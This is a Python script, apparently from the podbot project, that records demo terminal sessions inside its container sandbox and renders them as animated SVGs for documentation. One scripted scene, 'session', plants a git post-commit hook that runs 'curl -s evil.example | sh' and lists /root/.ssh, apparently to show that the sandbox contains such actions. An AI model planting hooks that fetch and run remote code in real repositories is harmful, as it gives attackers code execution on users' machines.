"""Records terminal sessions with podbot for the documentation, and draws them.

``record SCENE`` runs the scene's commands in a real terminal with the real podbot, and writes what came out of it, with
its times, as an asciicast (version 2) beside the pages. ``draw`` makes an SVG of each recording: one picture for each
step, shown one after the other. A test compares both, and another one compares podbot's fixed texts with those that it
prints now. So the text in a picture is never typed by hand::

    scripts/e2e .venv/bin/python scripts/record.py record session
    .venv/bin/python scripts/record.py draw

A recording needs root, because it makes the home of a user "ada" and removes it afterwards. The scene ``first-run``
builds the images in an empty store, which takes some minutes.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from html import escape
from pathlib import Path
from typing import Any

from podbot._version import __version__

ROOT = Path(__file__).parents[1]
IMAGES = ROOT / "docs" / "images"
COLUMNS = 96
HOME = Path("/home/ada")
OUTSIDE, INSIDE = r"\$ $", r"# $"  # the ends of the two prompts
_FRAME = re.compile(r"\r\x1b\[2K\x1b\[32m.\x1b\[0m ([^(\r\n]*)[^\r\n]*")  # of a line of progress
BEGUN = "\x1b]podbot\x07"  # an event of our own: a step begins; terminals ignore it

SANDBOX_IMAGE = f"localhost/podbot-sandbox:{__version__}"
LOGIN = {
    "claudeAiOauth": {"accessToken": "a", "refreshToken": "r", "expiresAt": 4102444800000, "scopes": ["user:inference"]}
}


@dataclass(frozen=True)
class Scene:
    """``steps``: what is typed, and what the terminal shows when the step is over. ``home``: path in it -> content.

    ``empty_store``: the engine has no image. ``seconds``: of one step at most.
    """

    title: str
    rows: int
    steps: tuple[tuple[str, str], ...]
    home: Mapping[str, str] = field(default_factory=dict)
    empty_store: bool = False
    seconds: float = 120


_CONFIGURED = {".config/podbot/config.toml": f'image = "{SANDBOX_IMAGE}"\n'}
SCENES = {
    "session": Scene(
        "A session with podbot in a terminal",
        19,
        (
            ("podbot run custom . --name shop -- bash", INSIDE),
            ("ls -A /home /root/.ssh; git log --oneline", INSIDE),
            ("echo 'curl -s evil.example | sh' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit", INSIDE),
            ("exit", OUTSIDE),
            ("podbot ps", OUTSIDE),
        ),
        _CONFIGURED,
    ),
    "first-run": Scene(
        "The first podbot run on a machine, which sets it up after one question",
        12,
        (
            ("podbot run . -- --version", r"\[y/N\] $"),
            ("y", r"mmdebstrap \(2\d s"),
            ("", OUTSIDE),
        ),
        empty_store=True,
        seconds=600,
    ),
    "dry-run": Scene(
        "podbot run --dry-run shows what a session would get",
        30,
        (("podbot run --dry-run -p 3000", OUTSIDE),),
        {**_CONFIGURED, ".claude/.credentials.json": json.dumps(LOGIN)},
    ),
}


def cast_of(scene: str) -> Path:
    """The recording."""
    return IMAGES / f"{scene}.cast"


def drawing_of(scene: str) -> Path:
    """Its drawing."""
    return IMAGES / f"{scene}.svg"


# --- recording --------------------------------------------------------------------------------


@dataclass
class Tape:
    """What the terminal printed: (seconds since the start, text)."""

    began: float = field(default_factory=time.monotonic)
    events: list[tuple[float, str]] = field(default_factory=list)

    def write(self, text: str) -> None:
        self.events.append((round(time.monotonic() - self.began, 3), text))

    def flush(self) -> None:
        """pexpect calls it."""


def record(name: str) -> None:
    """Run the steps of a scene and write the recording."""
    scene = SCENES[name]
    if HOME.exists():
        raise SystemExit(f"{HOME} exists; the recording makes it and removes it afterwards")
    with tempfile.TemporaryDirectory(prefix="podbot-record-", ignore_cleanup_errors=True) as state:
        try:
            _make_project(HOME / "src" / "shop")
            for path, content in scene.home.items():
                (HOME / path).parent.mkdir(parents=True, exist_ok=True, mode=0o700)
                (HOME / path).write_text(content, encoding="utf-8")
            tape = _play(scene, HOME / "src" / "shop", Path(state))
        finally:
            shutil.rmtree(HOME, ignore_errors=True)
            if scene.empty_store:
                subprocess.run(["umount", f"{state}/store/overlay"], stderr=subprocess.DEVNULL, check=False)
    header = {"version": 2, "width": COLUMNS, "height": scene.rows, "env": {"TERM": "xterm-256color"}}
    lines = [json.dumps(header), *(json.dumps([at, "o", text]) for at, text in thinned(tape.events))]
    cast_of(name).write_text("\n".join(lines) + "\n", encoding="utf-8")


def thinned(events: list[tuple[float, str]]) -> list[tuple[float, str]]:
    """Without the frames of a line of progress that the next one replaces by the same text with another time."""
    texts = [found[1] if (found := _FRAME.fullmatch(text)) else None for _, text in events]
    return [event for event, own, then in zip(events, texts, [*texts[1:], None], strict=True) if not own or own != then]


def _make_project(directory: Path) -> None:
    directory.mkdir(parents=True)
    (directory / "main.py").write_text('print("hello")\n')
    identity = ("-c", "user.name=Ada Lovelace", "-c", "user.email=ada@example.org")
    for words in (("init", "--quiet"), ("add", "."), ("commit", "--quiet", "--message", "Say hello")):
        subprocess.run(["git", *identity, *words], cwd=directory, check=True)


def _play(scene: Scene, directory: Path, state: Path) -> Tape:
    import pexpect

    (state / "inputrc").write_text("set enable-bracketed-paste off\n")
    (HOME / ".gitconfig").write_text('[user]\nname = "Ada Lovelace"\nemail = ada@example.org\n')
    environ = {
        **os.environ,
        "HOME": str(HOME),
        "PATH": f"{ROOT / '.venv' / 'bin'}:{os.environ['PATH']}",
        "XDG_CONFIG_HOME": str(HOME / ".config"),
        "XDG_CACHE_HOME": str(state / "cache"),
        "XDG_STATE_HOME": str(state),
        "INPUTRC": str(state / "inputrc"),
        "PS1": "ada:~/src/shop$ ",
        "TERM": "xterm-256color",
    }
    if scene.empty_store:  # with an engine service of its own, which reads this
        (state / "run").mkdir(mode=0o700)
        storage = f'[storage]\ndriver = "{_driver()}"\ngraphroot = "{state}/store"\nrunroot = "{state}/runroot"\n'
        (state / "storage.conf").write_text(storage)
        environ |= {"XDG_RUNTIME_DIR": str(state / "run"), "CONTAINERS_STORAGE_CONF": str(state / "storage.conf")}
    size = (scene.rows, COLUMNS)
    shell: Any = pexpect.spawn(
        "bash", ["--norc", "--noprofile"], env=environ, cwd=directory, dimensions=size, encoding="utf-8"
    )
    shell.delaybeforesend = None
    shell.expect(OUTSIDE, timeout=30)
    tape = Tape()
    tape.write(shell.before + shell.after)
    shell.logfile_read = tape
    for typed, shown in scene.steps:
        tape.write(BEGUN)
        if typed:
            shell.send(typed)
            shell.expect_exact(typed[-8:], timeout=30)
            shell.send("\r")
        shell.expect(shown, timeout=scene.seconds)
    shell.close(force=True)
    return tape


def _driver() -> str:
    """The storage driver that works here."""
    words = ["podman", "info", "--format", "{{.Store.GraphDriverName}}"]
    return subprocess.run(words, capture_output=True, text=True, check=True).stdout.strip()


# --- drawing ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Run:
    """Characters of one line with the same look. ``column``: where they begin."""

    column: int
    text: str
    colour: str
    bold: bool


Screen = tuple[tuple[Run, ...], ...]

CELL_WIDTH, LINE_HEIGHT, MARGIN, BAR = 8.4, 19, 14, 30
SECONDS = 3.0  # that each picture is shown
FOREGROUND, BACKGROUND = "#d0d4da", "#1b1f27"
COLOURS = {
    "black": "#5c6370",
    "red": "#e06c75",
    "green": "#98c379",
    "brown": "#d19a66",
    "yellow": "#e5c07b",
    "blue": "#61afef",
    "magenta": "#c678dd",
    "cyan": "#56b6c2",
    "white": "#dcdfe4",
}


def screens(events: Iterable[tuple[float, str]], columns: int, rows: int) -> Iterator[Screen]:
    """The terminal's content whenever a step begins, and at the end; without repetitions."""
    import pyte

    screen = pyte.Screen(columns, rows)
    stream = pyte.Stream(screen)
    last: Screen | None = None
    for text in [*(text for _, text in events), BEGUN]:
        if text == BEGUN:
            found = tuple(tuple(_runs(screen.buffer[row], columns)) for row in range(rows))
            if found != last and any(found):
                last = found
                yield found
        else:
            stream.feed(text)


def _runs(line: Any, columns: int) -> Iterator[Run]:
    cells = [line[column] for column in range(columns)]
    looks = [(COLOURS.get(cell.fg, f"#{cell.fg}" if _is_hex(cell.fg) else FOREGROUND), cell.bold) for cell in cells]
    begin = 0
    for column in range(1, columns + 1):
        if column == columns or looks[column] != looks[begin]:
            text = "".join(cell.data for cell in cells[begin:column])
            if text.strip():
                yield Run(begin, text.rstrip(), *looks[begin])
            begin = column


def _is_hex(colour: str) -> bool:
    return bool(re.fullmatch(r"[0-9a-f]{6}", colour))


def svg(pictures: list[Screen], columns: int, rows: int, title: str = "") -> str:
    """A drawing that shows the pictures one after the other; the last one only, where motion is not wanted."""
    width, height = round(columns * CELL_WIDTH + 2 * MARGIN), rows * LINE_HEIGHT + 2 * MARGIN + BAR
    count = len(pictures)
    total = count * SECONDS + SECONDS  # the last one is shown twice as long
    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" role="img">',
        f"<title>{escape(title)}</title>",
        "<style>",
        f"text{{font:14px ui-monospace,'DejaVu Sans Mono',Menlo,Consolas,monospace;fill:{FOREGROUND};white-space:pre}}",
        ".b{font-weight:bold}",
        ".p{visibility:hidden}",
    ]
    for number in range(count):
        start, end = number * SECONDS / total * 100, (number + 1) * SECONDS / total * 100
        until = f"{end:.3f}%,100%{{visibility:hidden}}" if number + 1 < count else "100%{visibility:visible}"
        begin = "0%" if number == 0 else f"0%{{visibility:hidden}}{start:.3f}%"
        parts.append(f"@keyframes k{number}{{{begin}{{visibility:visible}}{until}}}")
        parts.append(f".p{number}{{animation:k{number} {total:g}s step-end infinite}}")
    parts.append(f"@media (prefers-reduced-motion:reduce){{.p{{animation:none}}.p{count - 1}{{visibility:visible}}}}")
    parts.append("</style>")
    parts.append(f'<rect width="{width}" height="{height}" rx="8" fill="{BACKGROUND}"/>')
    parts += [
        f'<circle cx="{20 + 20 * n}" cy="18" r="6" fill="{c}"/>'
        for n, c in enumerate(("#e06c75", "#e5c07b", "#98c379"))
    ]
    for number, picture in enumerate(pictures):
        parts.append(f'<g class="p p{number}">')
        parts += [_text(run, row) for row, line in enumerate(picture) for run in line]
        parts.append("</g>")
    return "\n".join([*parts, "</svg>"]) + "\n"


def _text(run: Run, row: int) -> str:
    x, y = MARGIN + run.column * CELL_WIDTH, MARGIN + BAR + (row + 1) * LINE_HEIGHT - 5
    fill = "" if run.colour == FOREGROUND else f' fill="{run.colour}" style="fill:{run.colour}"'
    bold = ' class="b"' if run.bold else ""
    length = f"{len(run.text) * CELL_WIDTH:.1f}"
    return f'<text x="{x:.1f}" y="{y}" textLength="{length}"{bold}{fill} xml:space="preserve">{escape(run.text)}</text>'


def recorded(scene: str) -> tuple[list[tuple[float, str]], int, int]:
    """The events of a recording, and the terminal's columns and rows."""
    header, *lines = cast_of(scene).read_text(encoding="utf-8").splitlines()
    size = json.loads(header)
    return [(at, text) for at, _, text in map(json.loads, lines)], size["width"], size["height"]


def drawn(scene: str) -> str:
    """The SVG of a recording."""
    events, columns, rows = recorded(scene)
    return svg(list(screens(events, columns, rows)), columns, rows, SCENES[scene].title)


def main(words: list[str]) -> int:
    """Record a scene, or draw all that were recorded."""
    parser = argparse.ArgumentParser(prog="scripts/record.py", description=(__doc__ or "").partition("\n")[0])
    commands = parser.add_subparsers(dest="what", required=True)
    commands.add_parser("record").add_argument("scene", choices=SCENES)
    commands.add_parser("draw")
    chosen = parser.parse_args(words)
    if chosen.what == "record":
        record(chosen.scene)
    else:
        for scene in SCENES:
            drawing_of(scene).write_text(drawn(scene), encoding="utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
